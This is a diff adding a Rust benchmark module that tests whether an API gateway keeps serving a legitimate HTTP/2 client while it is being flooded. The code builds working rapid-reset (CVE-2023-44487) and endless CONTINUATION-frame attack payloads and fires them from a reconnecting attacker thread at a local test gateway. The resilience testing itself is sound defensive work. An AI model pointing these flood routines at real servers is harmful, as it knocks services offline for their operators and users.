@@ -1,0 +1,279 @@
+//! HTTP/2 floods against another client (`--only floods`): a fresh h2c client of
+//! edge-gateway (full policy, on CPU 1) calls the secured resource `--flood-probes` times,
+//! one after the other, first on a quiet gateway, then while an attacker on a thread of
+//! its own floods the same listener, one connection at a time, reconnecting whenever the
+//! gateway ends one:
+//! - rapid reset (CVE-2023-44487): requests for the secured resource, with the token,
+//!   each reset at once ([`RESETS_PER_CONNECTION`] a connection);
+//! - CONTINUATION: a header block that never ends, [`CONTINUATION_BYTES`] each frame.
+//!
+//! The attacker runs at the lowest priority (nice 19) on CPU 0 beside the client it is
+//! timed against, so that what is timed is the gateway's share, not the client's own CPU
+//! taken by the attacker's writes (a real attacker is on machines of its own).
+//! The issue's bound: the other client's p99 within 2× of its quiet value.
+
+use std::fmt::Write as _;
+use std::sync::Arc;
+use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
+use std::time::Duration;
+
+use apim_tls::h2_frames::{
+    CANCEL, CONTINUATION, END_HEADERS, END_STREAM, HEADERS, RST_STREAM, frame, hello, hpack_literal,
+};
+use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
+use tokio::net::TcpStream;
+
+use super::Options;
+use super::backend::FastBackend;
+use super::idle::{Kind, Target};
+use super::platform::{BASE, Platform, SECURED};
+use super::report::{int, section_head};
+use super::stats::Latencies;
+
+/// Requests opened and reset at once on each flooding connection.
+const RESETS_PER_CONNECTION: u32 = 1_000;
+/// Filler of each CONTINUATION frame (the default largest frame).
+const CONTINUATION_BYTES: usize = 16 * 1024;
+/// CONTINUATION frames sent on a connection at most (1 MiB of header block).
+const CONTINUATIONS_PER_CONNECTION: usize = 64;
+/// Longest an attacker waits for the gateway to end its connection.
+const ATTACK_READ_LIMIT: Duration = Duration::from_secs(5);
+/// The bound of the issue: the other client's p99 against its quiet value.
+const P99_BOUND: f64 = 2.0;
+
+/// A flood, or none.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Condition {
+    /// No attacker.
+    Quiet,
+    /// Rapid reset.
+    RapidReset,
+    /// A CONTINUATION flood.
+    Continuation,
+}
+
+impl Condition {
+    /// The order measured: quiet first (the reference) and last (drift).
+    const RUN: [Condition; 4] = [
+        Condition::Quiet,
+        Condition::RapidReset,
+        Condition::Continuation,
+        Condition::Quiet,
+    ];
+
+    fn label(self) -> &'static str {
+        match self {
+            Condition::Quiet => "quiet",
+            Condition::RapidReset => "rapid reset (HEADERS + RST_STREAM)",
+            Condition::Continuation => "CONTINUATION flood",
+        }
+    }
+}
+
+/// One condition's figures.
+#[derive(Debug, Clone)]
+pub struct FloodRun {
+    /// What ran beside the client.
+    pub condition: Condition,
+    /// The other client's calls.
+    pub client: Latencies,
+    /// Flooding connections the gateway ended meanwhile.
+    pub flood_connections: u64,
+}
+
+/// Runs the part: each condition in [`Condition::RUN`]'s order, on one platform.
+pub async fn measure(options: &Options) -> Vec<FloodRun> {
+    let backend = FastBackend::start();
+    let platform = Platform::start(&backend.url).await;
+    let target = Target::new(Kind::H2c, &platform);
+    let attack = Attack::new(&platform);
+    let mut runs = Vec::new();
+    for condition in Condition::RUN {
+        let flooding = Flooding::start(condition, attack.clone());
+        // Let the flood reach its pace before timing.
+        tokio::time::sleep(Duration::from_millis(500)).await;
+        let client = target.timed_calls(options.flood_probes).await;
+        let flood_connections = flooding.stop();
+        eprintln!(
+            "bench: floods: {}: p50 {:.3} ms, p99 {:.3} ms; {flood_connections} flooding \
+             connections",
+            condition.label(),
+            client.p50_ms,
+            client.p99_ms
+        );
+        runs.push(FloodRun {
+            condition,
+            client,
+            flood_connections,
+        });
+    }
+    platform.stop().await;
+    runs
+}
+
+/// What the attacker sends, built once.
+#[derive(Clone)]
+struct Attack {
+    addr: String,
+    rapid_reset: Arc<Vec<u8>>,
+    continuation_head: Arc<Vec<u8>>,
+}
+
+impl Attack {
+    fn new(platform: &Platform) -> Self {
+        let addr = platform
+            .stack
+            .gw
+            .base
+            .trim_start_matches("http://")
+            .trim_end_matches('/')
+            .to_string();
+        let request = request_block(&addr, &format!("{BASE}{SECURED}"), &platform.token);
+        let mut rapid_reset = hello();
+        for index in 0..RESETS_PER_CONNECTION {
+            let stream = 2 * index + 1;
+            rapid_reset.extend(frame(HEADERS, END_STREAM | END_HEADERS, stream, &request));
+            rapid_reset.extend(frame(RST_STREAM, 0, stream, &CANCEL.to_be_bytes()));
+        }
+        let mut never_ending = request;
+        // A literal header `x`, without indexing, whose value (about 2 MiB) never comes.
+        never_ending.extend_from_slice(&[0x00, 0x01, b'x', 0x7f, 0x81, 0xff, 0x7f]);
+        let mut continuation_head = hello();
+        continuation_head.extend(frame(HEADERS, END_STREAM, 1, &never_ending));
+        Self {
+            addr,
+            rapid_reset: Arc::new(rapid_reset),
+            continuation_head: Arc::new(continuation_head),
+        }
+    }
+
+    /// One flooding connection, until the gateway ends it.
+    async fn once(&self, condition: Condition) -> std::io::Result<()> {
+        let mut stream = TcpStream::connect(&self.addr).await?;
+        match condition {
+            Condition::Quiet => return Ok(()),
+            // The gateway may close before it has read it all.
+            Condition::RapidReset => {
+                let _ = stream.write_all(&self.rapid_reset).await;
+            }
+            Condition::Continuation => {
+                stream.write_all(&self.continuation_head).await?;
+                let filler = frame(CONTINUATION, 0, 1, &[b'a'; CONTINUATION_BYTES]);
+                for _ in 0..CONTINUATIONS_PER_CONNECTION {
+                    if stream.write_all(&filler).await.is_err() {
+                        break;
+                    }
+                }
+            }
+        }
+        let mut sink = vec![0u8; 64 * 1024];
+        let _ = tokio::time::timeout(ATTACK_READ_LIMIT, async {
+            while matches!(stream.read(&mut sink).await, Ok(n) if n > 0) {}
+        })
+        .await;
+        Ok(())
+    }
+}
+
+/// An attacker on a thread of its own, one connection after another.
+struct Flooding {
+    stop: Arc<AtomicBool>,
+    connections: Arc<AtomicU64>,
+    thread: Option<std::thread::JoinHandle<()>>,
+}
+
+impl Flooding {
+    fn start(condition: Condition, attack: Attack) -> Self {
+        let stop = Arc::new(AtomicBool::new(false));
+        let connections = Arc::new(AtomicU64::new(0));
+        let thread = (condition != Condition::Quiet).then(|| {
+            let (stop, connections) = (stop.clone(), connections.clone());
+            std::thread::spawn(move || {
+                // The client under test shares CPU 0: the attacker takes only what it leaves,
+                // so that the client's own side does not wait behind the attacker's writes.
+                harness::machine::lowest_priority_thread();
+                let runtime = tokio::runtime::Builder::new_current_thread()
+                    .enable_all()
+                    .build()
+                    .expect("attacker runtime");
+                runtime.block_on(async move {
+                    while !stop.load(Ordering::Relaxed) {
+                        if attack.once(condition).await.is_ok() {
+                            connections.fetch_add(1, Ordering::Relaxed);
+                        }
+                    }
+                });
+            })
+        });
+        Self {
+            stop,
+            connections,
+            thread,
+        }
+    }
+
+    /// Stops the attacker; the connections it flooded.
+    fn stop(mut self) -> u64 {
+        self.stop.store(true, Ordering::Relaxed);
+        if let Some(thread) = self.thread.take() {
+            thread.join().expect("attacker thread");
+        }
+        self.connections.load(Ordering::Relaxed)
+    }
+}
+
+/// The HPACK block of `GET http://{authority}{path}` with `Authorization: Bearer {token}`:
+/// static-table entries and literals without indexing.
+fn request_block(authority: &str, path: &str, token: &str) -> Vec<u8> {
+    // `:method GET`, `:scheme http`.
+    let mut block = vec![0x82, 0x86];
+    // Static-table indexes of `:authority`, `:path` and `authorization`.
+    hpack_literal(&mut block, 1, authority.as_bytes());
+    hpack_literal(&mut block, 4, path.as_bytes());
+    hpack_literal(&mut block, 23, format!("Bearer {token}").as_bytes());
+    block
+}
+
+/// The part's section of the report.
+pub fn section(options: &Options, runs: &[FloodRun]) -> String {
+    let command = format!("--only floods --flood-probes {}", options.flood_probes);
+    let mut md = section_head("HTTP/2 floods and another client", &command);
+    let _ = writeln!(
+        md,
+        "edge-gateway (full policy, on CPU 1); a fresh h2c client on CPU 0 calls the secured \
+         resource {} times, one after the other, while an attacker on a thread of its own \
+         (on CPU 0 as well, at nice 19 so that it takes no CPU the client needs) floods the same listener one connection at a time, reconnecting as soon as the \
+         gateway ends one: rapid reset ({RESETS_PER_CONNECTION} requests for the secured \
+         resource, with the token, each reset at once) or a header block that never ends \
+         (up to {CONTINUATIONS_PER_CONNECTION} CONTINUATION frames of {} KiB). Target: the \
+         client's p99 within {P99_BOUND}× of its first quiet value.\n",
+        options.flood_probes,
+        CONTINUATION_BYTES / 1024,
+    );
+    md.push_str(
+        "| beside the client | client p50 / p99 / max ms | p99 ÷ quiet | flooding \
+         connections ended |\n|---|--:|--:|--:|\n",
+    );
+    let quiet = runs
+        .first()
+        .map(|run| run.client.p99_ms)
+        .unwrap_or(f64::NAN);
+    for run in runs {
+        let ratio = run.client.p99_ms / quiet;
+        let verdict = match run.condition {
+            Condition::Quiet => String::new(),
+            _ if ratio <= P99_BOUND => " (MET)".into(),
+            _ => " (MISSED)".into(),
+        };
+        let _ = writeln!(
+            md,
+            "| {} | {:.3} / {:.3} / {:.3} | {ratio:.2}×{verdict} | {} |",
+            run.condition.label(),
+            run.client.p50_ms,
+            run.client.p99_ms,
+            run.client.max_ms,
+            int(run.flood_connections as f64),
+        );
+    }
+    md
+}
